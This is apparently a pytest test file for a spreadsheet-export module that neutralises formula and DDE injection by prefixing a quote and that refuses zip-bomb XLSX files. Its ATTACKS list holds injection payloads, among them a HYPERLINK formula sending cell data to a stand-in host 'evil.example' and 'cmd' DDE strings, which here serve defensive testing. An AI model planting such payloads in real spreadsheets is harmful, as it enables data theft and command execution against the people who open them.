"""Spreadsheet cells stay text (omzien.core.spreadsheets): no formula, no DDE, and reading
gives back exactly what was written."""

import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from omzien.core import spreadsheets
from omzien.core.spreadsheets import (
    SpreadsheetTooLarge,
    check_xlsx_size,
    csv_cell,
    looks_like_formula,
    neutralise,
    restore,
)

ATTACKS = [  # the carriage return one is at the end: XML reads it back as "\n"
    '=HYPERLINK("http://evil.example/?d="&A1;"klik")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_a_quote_and_come_back(text):
    assert looks_like_formula(text)
    written = neutralise(text)
    assert written == "'" + text
    assert not looks_like_formula(written)
    assert restore(written) == text


@pytest.mark.parametrize(
    "text", ["Jan", "'t Hart", "'s-Heerenberg", "de Vries", "a=b", "2026-03-03", "", "'", "O'Neil"]
)
def test_ordinary_texts_are_left_alone(text):
    assert neutralise(text) == text
    assert restore(text) == text


@pytest.mark.parametrize("text", ["'=1+1", "''", "''t Hart", "' =1", "'''=x"])
def test_a_text_that_already_starts_with_our_quote_gets_one_more(text):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@given(st.text())
def test_any_text_round_trips_and_never_starts_a_formula(text):
    written = neutralise(text)
    assert restore(written) == text
    assert not looks_like_formula(written)


# What XML 1.0 can hold and read back as it was (a carriage return comes back as "\n").
xml_text = st.text(
    st.characters(blacklist_categories=["Cs"], blacklist_characters="\r").filter(
        lambda c: c in "\t\n" or ord(c) >= 32
    )
)


@settings(max_examples=50, deadline=None)  # each example writes and reads a workbook
@given(xml_text)
def test_any_xlsx_text_round_trips(tmp_path_factory, text):
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("test")
    cell = spreadsheets.xlsx_cell(sheet, text)
    assert cell.data_type == "s"
    sheet.append([cell])
    path = tmp_path_factory.mktemp("xlsx") / "one.xlsx"
    book.save(path)
    value = next(openpyxl.load_workbook(path, read_only=True).active.values)[0]
    assert restore(value or "") == text


def test_control_characters_do_not_break_the_file():
    assert spreadsheets.xlsx_cell(None, "Jan\x0bJansen").value == "Jan\ufffdJansen"


def test_numbers_and_dates_are_written_as_themselves():
    assert [csv_cell(v) for v in (None, -5, 2.5, Decimal("-1.5"), True, date(2026, 3, 3))] == [
        "",
        "-5",
        "2.5",
        "-1.5",
        "True",
        "2026-03-03",
    ]


def test_the_csv_writer_quotes_every_field_and_prefixes_formulas():
    out = io.StringIO()
    spreadsheets.csv_writer(out).writerow(["=1+1", 'Jo "Jopie"', "a;=b", 3, None])
    assert out.getvalue() == '"\'=1+1","Jo ""Jopie""","a;=b","3",""\r\n'
    assert [restore(v) for v in next(csv.reader(io.StringIO(out.getvalue())))] == [
        "=1+1",
        'Jo "Jopie"',
        "a;=b",
        "3",
        "",
    ]


def test_xlsx_cells_are_text_never_formulas(tmp_path):
    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet("test")
    sheet.append([spreadsheets.xlsx_cell(sheet, value) for value in [*ATTACKS, "Jan", 7]])
    book.save(tmp_path / "out.xlsx")

    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    for read_only in (True, False):
        cells = next(openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=read_only).active.rows)
        assert [cell.data_type for cell in cells] == ["s"] * (len(ATTACKS) + 1) + ["n"]
        assert [cell.value for cell in cells] == [*ATTACKS[:-1], "\n=1+1", "Jan", 7]
        if not read_only:  # Excel's "quote prefix": the cell stays text when edited
            assert [cell.quotePrefix for cell in cells[: len(ATTACKS)]] == [True] * len(ATTACKS)


def _zip(path, members: dict[str, bytes]):
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


def test_the_unpacked_size_is_checked_against_the_limit(tmp_path):
    path = _zip(tmp_path / "a.xlsx", {"a.xml": b"<a>" + b"x1y2z3" * 1000 + b"</a>"})
    assert check_xlsx_size(path, 10_000) == 6007
    with pytest.raises(SpreadsheetTooLarge) as error:
        check_xlsx_size(path, 6000)
    assert (error.value.unpacked, error.value.limit, error.value.ratio) == (6007, 6000, None)


def test_a_member_packed_far_tighter_than_real_data_is_refused(tmp_path):
    path = _zip(tmp_path / "bomb.xlsx", {"xl/worksheets/sheet1.xml": b"\0" * (20 * 1024 * 1024)})
    assert path.stat().st_size < 100_000
    with pytest.raises(SpreadsheetTooLarge) as error:
        check_xlsx_size(path, 1 << 30)
    assert error.value.ratio > 500


def test_not_a_zip_file(tmp_path):
    (tmp_path / "x.xlsx").write_bytes(b"not a zip")
    with pytest.raises(zipfile.BadZipFile):
        check_xlsx_size(tmp_path / "x.xlsx", 1000)
